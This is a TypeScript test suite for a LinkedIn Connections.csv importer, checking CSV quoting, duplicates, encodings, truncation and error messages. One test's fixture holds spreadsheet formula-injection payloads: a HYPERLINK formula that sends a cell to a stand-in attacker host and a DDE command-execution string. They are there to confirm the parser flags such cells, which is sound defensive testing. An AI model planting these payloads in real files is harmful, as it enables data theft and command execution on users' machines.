import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ImportError } from '../../src/core/import/error';
import { parseLinkedInConnections } from '../../src/core/import/linkedin';

const fixture = (path: string) => readFileSync(new URL(`../fixtures/imports/${path}`, import.meta.url), 'utf8');
const connections = fixture('linkedin/Connections.csv');

function errorOf(fn: () => unknown): ImportError {
  try {
    fn();
  } catch (e) {
    if (e instanceof ImportError) return e;
    throw e;
  }
  throw new Error('expected an ImportError');
}

describe('LinkedIn Connections.csv', () => {
  const result = parseLinkedInConnections(connections);

  it('reads past the "Notes:" lines to the header and tags everyone work', () => {
    expect(result.format).toBe('linkedin-connections');
    expect(result.contacts[0]).toEqual({
      name: 'Dana Whitfield',
      handles: ['linkedin:dana-whitfield-4a1b2c3d'],
      emails: ['dana.whitfield@acme-corp.example'],
      employer: 'Acme Corp',
      title: 'Head of Engineering',
      tag: 'work',
    });
    expect(result.contacts.every((c) => c.tag === 'work')).toBe(true);
  });

  it('keeps quoted commas, doubled quotes and line breaks inside cells', () => {
    const byName = new Map(result.contacts.map((c) => [c.name, c]));
    expect(byName.get('Raj Patel')?.employer).toBe('Globex, Inc.');
    expect(byName.get('María José García, PhD')?.title).toBe('Profesora titular Departamento de Física');
    expect(byName.get("Tom O'Neill")?.title).toBe('Software Engineer, "Platform" team');
    expect(byName.get('Jürgen Müller')?.handles).toEqual(['linkedin:jürgen-müller-91a0b1']);
    expect(byName.get('Priya Nair 🚀')?.emails).toEqual(['priya@startup.example']);
  });

  it('merges the duplicate row, skips the empty one, drops a bad e-mail, and says so', () => {
    expect(result.contacts.filter((c) => c.name === 'Raj Patel')).toHaveLength(1);
    expect(result.contacts).toHaveLength(9);
    expect(result.contacts.find((c) => c.name === 'Sam Lee')?.emails).toEqual([]);
    expect(result.warnings).toEqual(expect.arrayContaining([
      expect.stringMatching(/1 row has no name, e-mail or handle and was skipped \(line 11\)/),
      '1 duplicate row was merged.',
      '1 e-mail address was not valid and left out.',
    ]));
  });

  it('keeps formula cells as text, flags them and warns', () => {
    const mallory = result.contacts.find((c) => c.name === 'Evil Mallory')!;
    expect(mallory.employer).toBe('=HYPERLINK("http://attacker.example/?d="&A2,"Click")');
    expect(mallory.title).toBe("+cmd|' /C calc'!A0");
    expect(mallory.formulaFields).toEqual(['employer', 'title']);
    expect(result.warnings.some((w) => /spreadsheet formula \(line 14\)/.test(w))).toBe(true);
  });

  it('reads the same file with a BOM and CRLF line ends', () => {
    const crlf = `\uFEFF${connections.replace(/\n/g, '\r\n')}`;
    expect(parseLinkedInConnections(crlf).contacts).toEqual(result.contacts);
  });

  it('reads a copy saved by a spreadsheet with semicolons', () => {
    const semicolons = 'First Name;Last Name;URL;Email Address;Company;Position;Connected On\r\nDana;Whitfield;https://www.linkedin.com/in/dana;;"Acme; Corp";CTO;12 Mar 2024\r\n';
    expect(parseLinkedInConnections(semicolons).contacts).toEqual([{ name: 'Dana Whitfield', handles: ['linkedin:dana'], emails: [], employer: 'Acme; Corp', title: 'CTO', tag: 'work' }]);
  });

  it('reads the older export without the URL column', () => {
    const old = parseLinkedInConnections(fixture('linkedin/Connections-2019.csv'));
    expect(old.contacts.map((c) => [c.name, c.handles, c.emails, c.employer])).toEqual([
      ['Dana Whitfield', [], ['dana.whitfield@acme-corp.example'], 'Acme Corp'],
      ['Lena Kowalski', [], [], 'Umbrella Ltd'],
    ]);
  });

  it('lets the caller choose another default tag', () => {
    expect(parseLinkedInConnections(connections, { tag: 'personal' }).contacts[0]!.tag).toBe('personal');
  });

  it('keeps the rows before a cut and warns when the file ends inside a quoted cell', () => {
    const cut = connections.slice(0, connections.indexOf('Profesora titular') + 5);
    const partial = parseLinkedInConnections(cut);
    expect(partial.contacts.map((c) => c.name)).toEqual(['Dana Whitfield', 'Raj Patel', 'Jürgen Müller']);
    expect(partial.warnings[0]).toMatch(/cut short/);
  });

  it('keeps a last row cut between cells (its missing cells are empty)', () => {
    const cut = connections.slice(0, connections.indexOf(',Senior Recruiter'));
    expect(parseLinkedInConnections(cut).contacts.at(-1)).toMatchObject({ name: 'Raj Patel', employer: 'Globex, Inc.' });
  });

  it('names the expected header when given another file', () => {
    const e = errorOf(() => parseLinkedInConnections('Account address,Show boosts\na@b.social,true\n'));
    expect(e.reason).toBe('wrong-format');
    expect(e.format).toBe('linkedin-connections');
    expect(e.message).toBe("This does not look like a LinkedIn Connections.csv: the header 'First Name,Last Name,URL,Email Address,Company,Position,Connected On' was not found.");
  });

  it('says so when the file was cut before any connection', () => {
    expect(errorOf(() => parseLinkedInConnections(connections.slice(0, 120))).reason).toBe('wrong-format');
    expect(errorOf(() => parseLinkedInConnections('First Name,Last Name,URL,Email Address,Company,Position,Connected On\n')).reason).toBe('empty');
    expect(errorOf(() => parseLinkedInConnections('')).reason).toBe('empty');
    expect(errorOf(() => parseLinkedInConnections('\uFEFF\r\n')).message).toBe('This file is empty; expected a LinkedIn Connections.csv.');
  });
});
